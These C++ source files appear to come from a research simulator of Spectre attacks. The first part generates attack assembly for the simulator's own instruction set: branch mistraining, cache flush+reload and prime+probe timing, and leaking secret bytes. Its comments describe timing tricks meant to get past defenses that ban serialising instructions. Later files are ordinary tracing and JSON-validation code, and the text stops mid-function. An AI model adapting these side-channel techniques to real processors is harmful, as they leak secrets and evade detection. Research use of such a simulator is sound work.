    CRS_ENSURE(c.variant == SpectreVariant::kPht,
               "prime+probe is implemented for the kPht variant");
    CRS_ENSURE(c.probe_stride == 64,
               "prime+probe requires the 64-byte probe stride");
  }
  // L2 geometry the eviction sets are built against (default hierarchy).
  const sim::HierarchyConfig hw;
  const std::uint64_t l2_way_stride = hw.l2.size_bytes / hw.l2.ways;  // 32768
  const std::uint64_t l2_ways = hw.l2.ways;                           // 8
  // The bound variable lives at a set offset no probe line uses (>255*64).
  const std::uint64_t bound_offset = 300 * 64;

  const bool pht_like = c.variant == SpectreVariant::kPht ||
                        c.variant == SpectreVariant::kStride;
  std::string s;
  s += "; CR-Spectre attack binary (" + variant_name(c.variant) + ")\n";
  s += ".org " + num(c.link_base) + "\n";
  s += ".entry _start\n";
  s += "_start:\n";
  if (prime_probe) {
    // Build the per-set pointer chains once: node(y, w) -> node(y, w+1),
    // where node(y, w) = pp_buf + 64*y + way_stride*w. Walking a chain
    // primes (and later re-probes) the L2 set that probe[64*y] maps to.
    s += "    movi r4, 0\n";  // 64*y
    s += "pp_build_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    movi r6, " + num(l2_ways - 1) + "\n";
    s += "pp_build_w:\n";
    s += "    movi r8, " + num(l2_way_stride) + "\n";
    s += "    add r8, r5, r8\n";
    s += "    store [r5], r8\n";
    s += "    mov r5, r8\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_build_w\n";
    s += "    movi r8, 0\n";
    s += "    store [r5], r8\n";      // chain terminator
    s += "    addi r4, r4, 64\n";
    s += "    movi r7, 16384\n";      // 256 sets x 64 B
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_build_y\n";
  }
  s += "    movi r14, 0\n";  // byte index
  s += "byte_loop:\n";
  const bool voting = c.rounds_per_byte > 1;
  if (voting) {
    // Clear the vote histogram and arm the round counter.
    s += "    movi r5, 0\n";
    s += "vote_clear:\n";
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r5\n";
    s += "    movi r7, 0\n";
    s += "    storeb [r6], r7\n";
    s += "    addi r5, r5, 1\n";
    s += "    movi r7, 256\n";
    s += "    cmpltu r7, r5, r7\n";
    s += "    bnez r7, vote_clear\n";
    s += "    movi r4, round_ctr\n";
    s += "    movi r5, " + num(c.rounds_per_byte) + "\n";
    s += "    store [r4], r5\n";
    s += "round_loop:\n";
  }

  if (pht_like) {
    // 1. Mistrain the bounds check toward "in bounds".
    s += "    movi r13, " + num(c.train_iterations) + "\n";
    s += "train_loop:\n";
    s += "    movi r1, 1\n";
    s += "    call victim\n";
    s += "    addi r13, r13, -1\n";
    s += "    bnez r13, train_loop\n";
    if (!prime_probe) {
      // 2a. Flush the bound so the branch resolves late.
      s += "    movi r4, array1_size\n";
      s += "    clflush [r4]\n";
    }
    if (prime_probe) {
      // clflush-free bound delay: evict array1_size by touching the
      // aliasing lines of its L1/L2 sets. 2x associativity fills are the
      // standard guarantee — with fewer, an un-full set can absorb the
      // fills into invalid ways and leave the bound resident.
      s += "    movi r4, pp_buf\n";
      s += "    addi r4, r4, " + num(bound_offset) + "\n";
      s += "    movi r6, " + num(2 * l2_ways) + "\n";
      s += "pp_evict_bound:\n";
      s += "    load r5, [r4]\n";
      s += "    movi r7, " + num(l2_way_stride) + "\n";
      s += "    add r4, r4, r7\n";
      s += "    addi r6, r6, -1\n";
      s += "    bnez r6, pp_evict_bound\n";
    }
  } else if (c.variant == SpectreVariant::kBtb) {
    // 1. Inject the leak gadget into the BTB: dispatch through it with a
    //    harmless argument until the entry is trained.
    s += "    movi r4, btb_fnptr\n";
    s += "    movi r5, btb_leak_gadget\n";
    s += "    store [r4], r5\n";
    s += "    movi r13, " + num(c.train_iterations) + "\n";
    s += "btb_train:\n";
    s += "    movi r1, array1\n";      // harmless readable byte
    s += "    movi r4, btb_fnptr\n";
    s += "    load r5, [r4]\n";
    s += "    call btb_dispatch\n";
    s += "    addi r13, r13, -1\n";
    s += "    bnez r13, btb_train\n";
  }

  if (!prime_probe) {
    // 2b. Flush the probe array.
    s += "    movi r5, probe\n";
    s += "    movi r6, 256\n";
    s += "flush_probe:\n";
    s += "    clflush [r5]\n";
    s += "    addi r5, r5, " + num(c.probe_stride) + "\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, flush_probe\n";
    s += "    mfence\n";
  } else {
    // 2b'. Prime: walk every eviction chain, filling all ways of every
    // probe set (and evicting the probe lines themselves from L1/L2).
    s += "    movi r4, 0\n";
    s += "pp_prime_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    movi r6, " + num(l2_ways) + "\n";
    s += "pp_prime_w:\n";
    s += "    load r5, [r5]\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_prime_w\n";
    s += "    addi r4, r4, 64\n";
    s += "    movi r7, 16384\n";
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_prime_y\n";
  }

  // 3. One transient out-of-bounds access of secret[i].
  const std::string target = c.embed_secret.empty()
                                 ? num(c.target_secret_address)
                                 : std::string("embedded_secret");
  if (pht_like) {
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r2, array1\n";
    s += "    sub r1, r1, r2\n";  // x = &secret[i] - array1
    s += "    call victim\n";
  } else if (c.variant == SpectreVariant::kRsb) {
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    call rsb_leak\n";
  } else {  // kBtb
    // Repoint the dispatch at the benign target and flush the pointer so
    // the indirect branch resolves late; the stale BTB entry wins
    // transiently, with r1 = &secret[i] live in the wrong path.
    s += "    movi r4, btb_fnptr\n";
    s += "    movi r5, btb_benign\n";
    s += "    store [r4], r5\n";
    s += "    clflush [r4]\n";
    s += "    mfence\n";
    s += "    movi r1, " + target + "\n";
    s += "    add r1, r1, r14\n";
    s += "    movi r4, btb_fnptr\n";
    s += "    load r5, [r4]\n";        // slow target resolution
    s += "    call btb_dispatch\n";
  }

  if (prime_probe) {
    // 4'. Re-probe: walk every eviction chain with amplified dependent
    // timing; the slowest set is the one the victim's transient fill
    // disturbed. No clflush, no mfence.
    s += "    movi r4, 0\n";       // 64*y
    s += "    movi r10, 0\n";      // best (max) latency
    s += "    movi r11, 0\n";      // best offset
    s += "pp_probe_y:\n";
    s += "    movi r5, pp_buf\n";
    s += "    add r5, r5, r4\n";
    s += "    rdcycle r2\n";
    s += "    movi r6, " + num(l2_ways) + "\n";
    s += "pp_walk:\n";
    s += "    load r5, [r5]\n";
    s += "    addi r6, r6, -1\n";
    s += "    bnez r6, pp_walk\n";
    // Latency amplifier: a dependent divide chain forces the walk's
    // completion time into the front-end clock (via the ROB-full stall)
    // without the serialising mfence the defender may have banned.
    s += "    movi r6, 1\n";
    for (int k = 0; k < 20; ++k) s += "    divu r5, r5, r6\n";
    s += "    rdcycle r3\n";
    s += "    sub r2, r3, r2\n";
    s += "    cmpltu r7, r10, r2\n";
    s += "    beqz r7, pp_probe_next\n";
    s += "    mov r10, r2\n";
    s += "    mov r11, r4\n";
    s += "pp_probe_next:\n";
    s += "    addi r4, r4, 64\n";
    if (c.perturb && c.perturb_probe_interval > 0) {
      CRS_ENSURE((c.perturb_probe_interval &
                  (c.perturb_probe_interval - 1)) == 0,
                 "perturb_probe_interval must be a power of two");
      s += "    shri r7, r4, 6\n";
      s += "    andi r7, r7, " + num(c.perturb_probe_interval - 1) + "\n";
      s += "    bnez r7, pp_no_perturb\n";
      s += "    push r4\n";
      s += "    push r10\n";
      s += "    push r11\n";
      s += "    call perturb\n";
      s += "    pop r11\n";
      s += "    pop r10\n";
      s += "    pop r4\n";
      s += "pp_no_perturb:\n";
    }
    s += "    movi r7, 16384\n";
    s += "    cmpltu r7, r4, r7\n";
    s += "    bnez r7, pp_probe_y\n";
    s += "    shri r11, r11, 6\n";  // offset -> byte value
  } else {
  // 4. Time every probe line.
  s += "    movi r5, 0\n";       // line index
  s += "    movi r10, 100000\n"; // best latency
  s += "    movi r11, 0\n";      // best guess
  s += "probe_loop:\n";
  s += "    muli r6, r5, " + num(c.probe_stride) + "\n";
  s += "    movi r7, probe\n";
  s += "    add r6, r7, r6\n";
  s += "    mfence\n";
  s += "    rdcycle r2\n";
  s += "    loadb r7, [r6]\n";
  s += "    mov r12, r7\n";      // data dependency for the fence
  s += "    mfence\n";
  s += "    rdcycle r3\n";
  s += "    sub r2, r3, r2\n";   // load latency
  if (c.recovery == RecoveryMode::kMinLatency) {
    s += "    cmplt r7, r2, r10\n";
    s += "    beqz r7, probe_next\n";
    s += "    mov r10, r2\n";
    s += "    mov r11, r5\n";
    s += "probe_next:\n";
  } else {
    s += "    movi r7, " + num(c.threshold) + "\n";
    s += "    cmplt r7, r2, r7\n";
    s += "    beqz r7, probe_next\n";
    s += "    mov r11, r5\n";
    s += "    jmp probe_done\n";  // first sub-threshold line wins
    s += "probe_next:\n";
  }
  s += "    addi r5, r5, 1\n";
  if (c.perturb && c.perturb_probe_interval > 0) {
    // Interleave Algorithm 2 with the probe scan. perturb clobbers r4..r9;
    // of the scan's live state r5 (line index), r10 (best latency) and r11
    // (best guess) must survive — r10/r11 are untouched by perturb, so
    // saving r5 suffices; save all three for robustness against future
    // perturbation-code changes.
    CRS_ENSURE((c.perturb_probe_interval &
                (c.perturb_probe_interval - 1)) == 0,
               "perturb_probe_interval must be a power of two");
    s += "    andi r7, r5, " + num(c.perturb_probe_interval - 1) + "\n";
    s += "    bnez r7, probe_no_perturb\n";
    s += "    push r5\n";
    s += "    push r10\n";
    s += "    push r11\n";
    s += "    call perturb\n";
    s += "    pop r11\n";
    s += "    pop r10\n";
    s += "    pop r5\n";
    s += "probe_no_perturb:\n";
  }
  s += "    movi r7, 256\n";
  s += "    cmpltu r7, r5, r7\n";
  s += "    bnez r7, probe_loop\n";
  if (c.recovery == RecoveryMode::kThreshold) s += "probe_done:\n";
  }

  if (voting) {
    // 5a. votes[guess]++ and run the next round.
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r11\n";
    s += "    loadb r7, [r6]\n";
    s += "    addi r7, r7, 1\n";
    s += "    storeb [r6], r7\n";
    s += "    movi r4, round_ctr\n";
    s += "    load r5, [r4]\n";
    s += "    addi r5, r5, -1\n";
    s += "    store [r4], r5\n";
    s += "    bnez r5, round_loop\n";
    // 5b. Majority vote: argmax over the histogram.
    s += "    movi r5, 0\n";
    s += "    movi r10, 0\n";
    s += "    movi r11, 0\n";
    s += "vote_scan:\n";
    s += "    movi r6, votes\n";
    s += "    add r6, r6, r5\n";
    s += "    loadb r7, [r6]\n";
    s += "    cmpltu r8, r10, r7\n";
    s += "    beqz r8, vote_next\n";
    s += "    mov r10, r7\n";
    s += "    mov r11, r5\n";
    s += "vote_next:\n";
    s += "    addi r5, r5, 1\n";
    s += "    movi r7, 256\n";
    s += "    cmpltu r7, r5, r7\n";
    s += "    bnez r7, vote_scan\n";
  }
  // 5. Record the guess.
  s += "    movi r6, recovered\n";
  s += "    add r6, r6, r14\n";
  s += "    storeb [r6], r11\n";

  // 6. Perturb (Algorithm 2), every perturb_every bytes.
  if (c.perturb) {
    if (c.perturb_every > 1) {
      s += "    movi r7, " + num(c.perturb_every) + "\n";
      s += "    remu r7, r14, r7\n";
      s += "    bnez r7, skip_perturb\n";
    }
    s += "    call perturb\n";
    if (c.perturb_every > 1) s += "skip_perturb:\n";
  }

  // 7. Next byte / exfiltrate.
  s += "    addi r14, r14, 1\n";
  s += "    movi r7, " + num(c.secret_length) + "\n";
  s += "    cmpltu r7, r14, r7\n";
  s += "    bnez r7, byte_loop\n";
  s += "    movi r1, recovered\n";
  s += "    movi r2, " + num(c.secret_length) + "\n";
  s += "    call print\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";

  // --- routines ---
  if (pht_like) {
    s += victim_source(c);
  } else if (c.variant == SpectreVariant::kRsb) {
    s += rsb_source(c);
  } else {
    s += btb_source(c);
  }
  if (c.perturb) {
    s += perturb::generate_perturb_source(c.perturb_params, "perturb");
  }

  // --- data ---
  s += ".data\n";
  if (prime_probe) {
    // Alignment-engineered layout: probe and pp_buf are congruent modulo
    // the L2 way stride, so node(y, w) aliases probe[64*y]'s L2 set; the
    // bound lives at a set offset (300*64) no probe line uses.
    s += ".align " + num(l2_way_stride) + "\n";
    s += "pp_anchor: .space " + num(bound_offset) + "\n";
    s += "array1_size: .word 8\n";
    s += "array1: .byte 0, 1, 2, 3, 4, 5, 6, 7\n";
    if (!c.embed_secret.empty()) {
      // The transient secret read fills the secret's own cache line; it
      // must not alias any probed set or it becomes a constant false
      // signal. Park it on set ~301 (> 255 = outside the probed range) —
      // the placement freedom a real prime+probe attacker also needs.
      s += ".align 64\n";
      s += "embedded_secret: .ascii \"";
      for (char ch : c.embed_secret) {
        switch (ch) {
          case '\n': s += "\\n"; break;
          case '\t': s += "\\t"; break;
          case '"': s += "\\\""; break;
          case '\\': s += "\\\\"; break;
          default: s += ch;
        }
      }
      s += "\"\n.byte 0\n";
    }
    s += ".align " + num(l2_way_stride) + "\n";
    s += "probe: .space 16384\n";
    s += ".align " + num(l2_way_stride) + "\n";
    // 2x the associativity: ways [0,8) back the per-set chains, ways
    // [8,16) extend the bound-eviction run.
    s += "pp_buf: .space " + num(l2_way_stride * l2_ways * 2) + "\n";
  } else {
    s += "array1_size: .word 8\n";
    s += "array1: .byte 0, 1, 2, 3, 4, 5, 6, 7\n";
    if (c.variant == SpectreVariant::kBtb) {
      s += ".align 64\n";
      s += "btb_fnptr: .word 0\n";
    }
    if (c.variant == SpectreVariant::kStride) {
      s += ".align 64\n";
      s += "index_table:\n";
      for (int k = 0; k < 256; ++k) {
        s += ".word " + num(static_cast<std::uint64_t>(k) * c.probe_stride) +
             "\n";
      }
    }
    s += ".align 64\n";
    s += "probe: .space " + num(256ull * c.probe_stride) + "\n";
  }
  s += ".align 64\n";
  s += "recovered: .space " + num(c.secret_length + 8) + "\n";
  if (c.rounds_per_byte > 1) {
    s += ".align 64\n";
    s += "votes: .space 256\n";
    s += "round_ctr: .word 0\n";
  }
  if (!c.embed_secret.empty() && !prime_probe) {
    s += ".align 64\n";
    s += "embedded_secret: .ascii \"";
    for (char ch : c.embed_secret) {
      switch (ch) {
        case '\n': s += "\\n"; break;
        case '\t': s += "\\t"; break;
        case '"': s += "\\\""; break;
        case '\\': s += "\\\\"; break;
        default: s += ch;
      }
    }
    s += "\"\n.byte 0\n";
  }
  return s;
}

sim::Program build_attack_binary(const AttackConfig& c) {
  casm::AssembleOptions opt;
  opt.name = c.name;
  opt.link_base = c.link_base;
  return casm::assemble(generate_attack_source(c) + casm::runtime_library(),
                        opt);
}

}  // namespace crs::attack
