// TraceSink: span/instant/counter events with per-thread buffers and a
// deterministic merge.
//
// Events are timestamped with the *virtual* cycle of the simulated machine
// (never wall-clock), tagged with the logical lane (see obs.hpp) and a
// per-buffer sequence number. The merge sorts by (cycle, lane, seq); the
// sequence number never appears in exports, so a serial run and an 8-thread
// run of the same workload serialize to byte-identical JSON/CSV.
//
// Event names must be string literals (or otherwise outlive the sink):
// buffers store the `const char*` without copying.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "obs/obs.hpp"

namespace crs::obs {

enum class TraceKind : std::uint8_t {
  kSpanBegin,
  kSpanEnd,
  kInstant,
  kCounter,
};

struct TraceEvent {
  std::uint64_t cycle = 0;
  std::uint64_t seq = 0;  // per-buffer emission order; merge tie-break only
  std::uint32_t lane = 0;
  TraceKind kind = TraceKind::kInstant;
  const char* name = "";
  double value = 0.0;
};

class TraceSink {
 public:
  struct Buffer {
    std::vector<TraceEvent> events;
    std::uint64_t next_seq = 0;
  };

  static TraceSink& instance();

  /// Appends to the calling thread's buffer; lock-free after the thread's
  /// first emission (registration takes the sink mutex once per thread per
  /// generation).
  void emit(TraceKind kind, const char* name, std::uint64_t cycle,
            double value = 0.0);

  /// All events from all buffers in the canonical deterministic order.
  std::vector<TraceEvent> merged() const;

  /// Chrome trace_event JSON (load via chrome://tracing or ui.perfetto.dev).
  std::string chrome_json() const;

  /// Compact CSV: cycle,lane,kind,name,value.
  std::string csv() const;

  std::size_t event_count() const;

  /// Drops all buffers and invalidates thread-local registrations. Must not
  /// race with emit(); call only from quiesced points (tests, tool startup).
  void clear();

 private:
  TraceSink() = default;
  Buffer* local_buffer();

  mutable std::mutex mutex_;
  std::vector<std::unique_ptr<Buffer>> buffers_;
  std::atomic<std::uint64_t> generation_{1};
};

/// Free-function emission helpers; all compile to nothing when the
/// subsystem is disabled and to a single predicted-untaken branch when
/// tracing is off at runtime.
inline void trace_event(TraceKind kind, const char* name, std::uint64_t cycle,
                        double value = 0.0) {
  if constexpr (kEnabled) {
    if (tracing_enabled()) TraceSink::instance().emit(kind, name, cycle, value);
  }
}

inline void trace_instant(const char* name, std::uint64_t cycle,
                          double value = 0.0) {
  trace_event(TraceKind::kInstant, name, cycle, value);
}

inline void trace_counter(const char* name, std::uint64_t cycle, double value) {
  trace_event(TraceKind::kCounter, name, cycle, value);
}

/// Scoped span. The begin event is emitted at construction with the given
/// cycle; the end event at close() (or destruction, with the begin cycle,
/// for zero-length fallback). Spans must nest properly within a lane.
class ScopedSpan {
 public:
  ScopedSpan(const char* name, std::uint64_t begin_cycle)
      : name_(name), begin_(begin_cycle) {
    if constexpr (kEnabled) {
      open_ = tracing_enabled();
      if (open_) {
        TraceSink::instance().emit(TraceKind::kSpanBegin, name_, begin_, 0.0);
      }
    }
  }
  ~ScopedSpan() { close(begin_); }
  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  void close(std::uint64_t end_cycle) {
    if constexpr (kEnabled) {
      if (open_) {
        TraceSink::instance().emit(TraceKind::kSpanEnd, name_, end_cycle, 0.0);
        open_ = false;
      }
    }
  }

 private:
  const char* name_;
  std::uint64_t begin_;
  bool open_ = false;
};

/// No-op stand-in with identical surface; guaranteed empty (sizeof == 1) so
/// the disabled build carries no per-span state.
class NullScopedSpan {
 public:
  NullScopedSpan(const char*, std::uint64_t) {}
  void close(std::uint64_t) {}
};

/// The span type instrumentation sites should use.
#if CRS_OBS_ENABLED
using TraceSpan = ScopedSpan;
#else
using TraceSpan = NullScopedSpan;
#endif

/// Validates Chrome trace_event JSON produced by chrome_json() (and, more
/// loosely, anything structurally compatible): a traceEvents array whose
/// objects carry name/ph/ts/pid/tid with B/E events properly nested per
/// (pid, tid). Returns "" on success, a diagnostic otherwise.
std::string validate_chrome_trace(const std::string& json);

}  // namespace crs::obs
