#include "obs/trace.hpp"

#include <algorithm>
#include <cstdlib>
#include <cstring>
#include <map>
#include <sstream>
#include <stdexcept>

#include "obs/metrics.hpp"

namespace crs::obs {

namespace {

// Thread-local registration: a raw buffer pointer plus the sink generation
// it was registered under. clear() bumps the generation, which forces every
// thread to re-register before its next emit instead of writing through a
// dangling pointer.
thread_local TraceSink::Buffer* tl_buffer = nullptr;
thread_local std::uint64_t tl_generation = 0;

char kind_letter(TraceKind kind) {
  switch (kind) {
    case TraceKind::kSpanBegin:
      return 'B';
    case TraceKind::kSpanEnd:
      return 'E';
    case TraceKind::kInstant:
      return 'i';
    case TraceKind::kCounter:
      return 'C';
  }
  return '?';
}

// Shared deterministic number rendering (integers print without a
// fractional part, everything else as %.17g).
std::string format_number(double v) { return format_metric_number(v); }

std::string escape_json(const char* s) {
  std::string out;
  for (const char* p = s; *p != '\0'; ++p) {
    const char c = *p;
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

bool event_less(const TraceEvent& a, const TraceEvent& b) {
  if (a.cycle != b.cycle) return a.cycle < b.cycle;
  if (a.lane != b.lane) return a.lane < b.lane;
  if (a.seq != b.seq) return a.seq < b.seq;
  // Identical (cycle, lane, seq) can only come from distinct buffers that
  // violated the lane-uniqueness contract; fall back to content so the
  // output order is still independent of buffer registration order.
  if (const int c = std::strcmp(a.name, b.name); c != 0) return c < 0;
  if (a.kind != b.kind) return a.kind < b.kind;
  return a.value < b.value;
}

}  // namespace

TraceSink& TraceSink::instance() {
  static TraceSink sink;
  return sink;
}

TraceSink::Buffer* TraceSink::local_buffer() {
  std::lock_guard<std::mutex> lock(mutex_);
  buffers_.push_back(std::make_unique<Buffer>());
  tl_buffer = buffers_.back().get();
  tl_generation = generation_.load(std::memory_order_relaxed);
  return tl_buffer;
}

void TraceSink::emit(TraceKind kind, const char* name, std::uint64_t cycle,
                     double value) {
  Buffer* buf = tl_buffer;
  if (buf == nullptr ||
      tl_generation != generation_.load(std::memory_order_acquire)) {
    buf = local_buffer();
  }
  TraceEvent ev;
  ev.cycle = cycle;
  ev.seq = buf->next_seq++;
  ev.lane = current_lane();
  ev.kind = kind;
  ev.name = name;
  ev.value = value;
  buf->events.push_back(ev);
}

std::vector<TraceEvent> TraceSink::merged() const {
  std::vector<TraceEvent> all;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    std::size_t total = 0;
    for (const auto& b : buffers_) total += b->events.size();
    all.reserve(total);
    for (const auto& b : buffers_) {
      all.insert(all.end(), b->events.begin(), b->events.end());
    }
  }
  std::stable_sort(all.begin(), all.end(), event_less);
  return all;
}

std::string TraceSink::chrome_json() const {
  const auto events = merged();
  std::ostringstream out;
  out << "{\"traceEvents\":[";
  bool first = true;
  for (const auto& ev : events) {
    if (!first) out << ",";
    first = false;
    out << "\n{\"name\":\"" << escape_json(ev.name)
        << "\",\"cat\":\"crs\",\"ph\":\"" << kind_letter(ev.kind)
        << "\",\"ts\":" << ev.cycle << ",\"pid\":1,\"tid\":" << ev.lane;
    if (ev.kind == TraceKind::kInstant) {
      out << ",\"s\":\"t\",\"args\":{\"value\":" << format_number(ev.value)
          << "}";
    } else if (ev.kind == TraceKind::kCounter) {
      out << ",\"args\":{\"value\":" << format_number(ev.value) << "}";
    }
    out << "}";
  }
  out << "\n],\"displayTimeUnit\":\"ms\"}\n";
  return out.str();
}

std::string TraceSink::csv() const {
  const auto events = merged();
  std::ostringstream out;
  out << "cycle,lane,kind,name,value\n";
  for (const auto& ev : events) {
    out << ev.cycle << ',' << ev.lane << ',' << kind_letter(ev.kind) << ','
        << ev.name << ',' << format_number(ev.value) << '\n';
  }
  return out.str();
}

std::size_t TraceSink::event_count() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::size_t total = 0;
  for (const auto& b : buffers_) total += b->events.size();
  return total;
}

void TraceSink::clear() {
  std::lock_guard<std::mutex> lock(mutex_);
  buffers_.clear();
  generation_.fetch_add(1, std::memory_order_release);
}

// ---------------------------------------------------------------------------
// Chrome trace validation: a small self-contained JSON parser plus the
// structural checks about:tracing relies on. No external dependencies.

namespace {

struct JsonValue {
  enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };
  Type type = Type::kNull;
  bool boolean = false;
  double number = 0.0;
  std::string str;
  std::vector<JsonValue> array;
  std::map<std::string, JsonValue> object;
};

class JsonParser {
 public:
  explicit JsonParser(const std::string& text) : text_(text) {}

  JsonValue parse() {
    const JsonValue v = parse_value();
    skip_ws();
    if (pos_ != text_.size()) fail("trailing characters after document");
    return v;
  }

 private:
  [[noreturn]] void fail(const std::string& what) {
    throw std::runtime_error("json parse error at byte " +
                             std::to_string(pos_) + ": " + what);
  }

  void skip_ws() {
    while (pos_ < text_.size()) {
      const char c = text_[pos_];
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
        ++pos_;
      } else {
        break;
      }
    }
  }

  char peek() {
    if (pos_ >= text_.size()) fail("unexpected end of input");
    return text_[pos_];
  }

  void expect(char c) {
    if (peek() != c) fail(std::string("expected '") + c + "'");
    ++pos_;
  }

  JsonValue parse_value() {
    skip_ws();
    const char c = peek();
    if (c == '{') return parse_object();
    if (c == '[') return parse_array();
    if (c == '"') {
      JsonValue v;
      v.type = JsonValue::Type::kString;
      v.str = parse_string();
      return v;
    }
    if (c == 't' || c == 'f') return parse_bool();
    if (c == 'n') {
      parse_literal("null");
      return JsonValue{};
    }
    return parse_number();
  }

  void parse_literal(const char* lit) {
    for (const char* p = lit; *p != '\0'; ++p) {
      if (pos_ >= text_.size() || text_[pos_] != *p) fail("bad literal");
      ++pos_;
    }
  }

  JsonValue parse_bool() {
    JsonValue v;
    v.type = JsonValue::Type::kBool;
    if (peek() == 't') {
      parse_literal("true");
      v.boolean = true;
    } else {
      parse_literal("false");
      v.boolean = false;
    }
    return v;
  }

  JsonValue parse_number() {
    const std::size_t start = pos_;
    if (pos_ < text_.size() && (text_[pos_] == '-' || text_[pos_] == '+')) {
      ++pos_;
    }
    bool digits = false;
    while (pos_ < text_.size()) {
      const char c = text_[pos_];
      if ((c >= '0' && c <= '9') || c == '.' || c == 'e' || c == 'E' ||
          c == '+' || c == '-') {
        digits = digits || (c >= '0' && c <= '9');
        ++pos_;
      } else {
        break;
      }
    }
    if (!digits) fail("invalid number");
    JsonValue v;
    v.type = JsonValue::Type::kNumber;
    v.number = std::strtod(text_.c_str() + start, nullptr);
    return v;
  }

  std::string parse_string() {
    expect('"');
    std::string out;
    for (;;) {
      if (pos_ >= text_.size()) fail("unterminated string");
      const char c = text_[pos_++];
      if (c == '"') return out;
      if (c == '\\') {
        if (pos_ >= text_.size()) fail("unterminated escape");
        const char esc = text_[pos_++];
        switch (esc) {
          case '"':
            out += '"';
            break;
          case '\\':
            out += '\\';
            break;
          case '/':
            out += '/';
            break;
          case 'b':
            out += '\b';
            break;
          case 'f':
            out += '\f';
            break;
          case 'n':
            out += '\n';
            break;
          case 'r':
            out += '\r';
            break;
          case 't':
            out += '\t';
            break;
          case 'u': {
            if (pos_ + 4 > text_.size()) fail("short \\u escape");
            // Decoded only far enough for validation; non-ASCII collapses
            // to '?' which is fine for name comparison purposes.
            unsigned code = 0;
            for (int i = 0; i < 4; ++i) {
              const char h = text_[pos_++];
              code <<= 4;
              if (h >= '0' && h <= '9') {
                code |= static_cast<unsigned>(h - '0');
              } else if (h >= 'a' && h <= 'f') {
                code |= static_cast<unsigned>(h - 'a' + 10);
              } else if (h >= 'A' && h <= 'F') {
                code |= static_cast<unsigned>(h - 'A' + 10);
              } else {
                fail("bad hex digit in \\u escape");
              }
            }
            out += code < 0x80 ? static_cast<char>(code) : '?';
            break;
          }
          default:
            fail("unknown escape");
        }
      } else {
        out += c;
      }
    }
  }

  JsonValue parse_array() {
    expect('[');
    JsonValue v;
    v.type = JsonValue::Type::kArray;
    skip_ws();
    if (peek() == ']') {
      ++pos_;
      return v;
    }
    for (;;) {
      v.array.push_back(parse_value());
      skip_ws();
      const char c = peek();
      if (c == ',') {
        ++pos_;
        continue;
      }
      if (c == ']') {
        ++pos_;
        return v;
      }
      fail("expected ',' or ']' in array");
    }
  }

  JsonValue parse_object() {
    expect('{');
    JsonValue v;
    v.type = JsonValue::Type::kObject;
    skip_ws();
    if (peek() == '}') {
      ++pos_;
      return v;
    }
    for (;;) {
      skip_ws();
      std::string key = parse_string();
      skip_ws();
      expect(':');
      v.object[std::move(key)] = parse_value();
      skip_ws();
      const char c = peek();
      if (c == ',') {
        ++pos_;
        continue;
      }
      if (c == '}') {
        ++pos_;
        return v;
      }
      fail("expected ',' or '}' in object");
    }
  }

  const std::string& text_;
  std::size_t pos_ = 0;
};

const JsonValue* find_member(const JsonValue& obj, const std::string& key) {
  const auto it = obj.object.find(key);
  return it == obj.object.end() ? nullptr : &it->second;
}

}  // namespace

std::string validate_chrome_trace(const std::string& json) {
  JsonValue doc;
  try {
    doc = JsonParser(json).parse();
  } catch (const std::exception& e) {
    return e.what();
  }

  const JsonValue* events = nullptr;
  if (doc.type == JsonValue::Type::kObject) {
    events = find_member(doc, "traceEvents");
    if (events == nullptr) return "top-level object lacks \"traceEvents\"";
  } else if (doc.type == JsonValue::Type::kArray) {
    events = &doc;  // the bare-array flavour Chrome also accepts
  } else {
    return "document is neither an object nor an array";
  }
  if (events->type != JsonValue::Type::kArray) {
    return "\"traceEvents\" is not an array";
  }

  // Per-(pid, tid) open-span stack for B/E nesting.
  std::map<std::pair<double, double>, std::vector<std::string>> open;
  for (std::size_t i = 0; i < events->array.size(); ++i) {
    const auto where = "event " + std::to_string(i);
    const JsonValue& ev = events->array[i];
    if (ev.type != JsonValue::Type::kObject) return where + ": not an object";

    const JsonValue* name = find_member(ev, "name");
    if (name == nullptr || name->type != JsonValue::Type::kString) {
      return where + ": missing string \"name\"";
    }
    const JsonValue* ph = find_member(ev, "ph");
    if (ph == nullptr || ph->type != JsonValue::Type::kString ||
        ph->str.size() != 1) {
      return where + ": missing one-char \"ph\"";
    }
    const char phase = ph->str[0];
    if (phase == 'M') continue;  // metadata events carry no timestamp

    static const std::string kKnown = "BEiICXbensO";
    if (kKnown.find(phase) == std::string::npos) {
      return where + ": unknown phase '" + ph->str + "'";
    }
    const JsonValue* ts = find_member(ev, "ts");
    if (ts == nullptr || ts->type != JsonValue::Type::kNumber) {
      return where + ": missing numeric \"ts\"";
    }
    if (ts->number < 0) return where + ": negative \"ts\"";
    const JsonValue* pid = find_member(ev, "pid");
    const JsonValue* tid = find_member(ev, "tid");
    if (pid == nullptr || pid->type != JsonValue::Type::kNumber) {
      return where + ": missing numeric \"pid\"";
    }
    if (tid == nullptr || tid->type != JsonValue::Type::kNumber) {
      return where + ": missing numeric \"tid\"";
    }

    auto& stack = open[{pid->number, tid->number}];
    if (phase == 'B') {
